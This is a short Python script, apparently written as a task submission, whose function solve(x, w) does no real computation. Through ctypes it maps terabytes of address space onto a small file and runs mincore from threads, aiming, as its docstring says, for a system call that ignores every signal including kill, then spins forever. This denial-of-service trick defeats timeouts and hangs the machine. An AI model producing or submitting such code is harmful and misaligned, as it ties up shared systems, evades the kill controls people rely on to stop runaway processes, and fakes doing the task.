"""One system call that runs for half a minute and heeds no signal, not even the kernel's kill."""

import ctypes
import os
import threading

import torch

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
libc.mincore.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_void_p]
PAGES = 2 * 2**30  # 8 TiB of addresses, none of them memory
PART = 32 * 2**20
file = os.open("/tmp/f", os.O_RDWR | os.O_CREAT)
os.ftruncate(file, PART)
where = libc.mmap(None, PAGES * 4096, 1, 1, file, 0)
answers = libc.mmap(None, PAGES, 0, 0x4022, -1, 0)
for start in range(0, PAGES, PART):  # the answer of 2 GiB, in one file of 32 MiB
    libc.mmap(answers + start, PART, 3, 0x11, file, 0)


def ask():
    libc.mincore(where, PAGES * 4096, answers)


def solve(x, w):
    for _ in range(2):
        threading.Thread(target=ask, daemon=True).start()
    while True:
        pass
